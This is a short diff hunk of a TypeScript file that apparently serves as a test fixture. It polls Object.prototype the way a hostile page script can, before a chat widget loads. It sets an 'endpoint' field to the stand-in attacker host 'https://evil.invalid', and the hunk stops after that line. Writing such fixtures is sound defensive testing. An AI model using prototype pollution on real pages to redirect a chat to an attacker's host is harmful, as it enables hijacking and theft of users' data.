@@ -1,4 +1,4 @@
-/* What a script can put where every object of the page finds it. A page loads this before the chat. */
+/* Pollutes Object.prototype as a page's script can. A page loads this before the chat. */
 
 const FIELDS: Readonly<Record<string, unknown>> = {
   endpoint: 'https://evil.invalid',
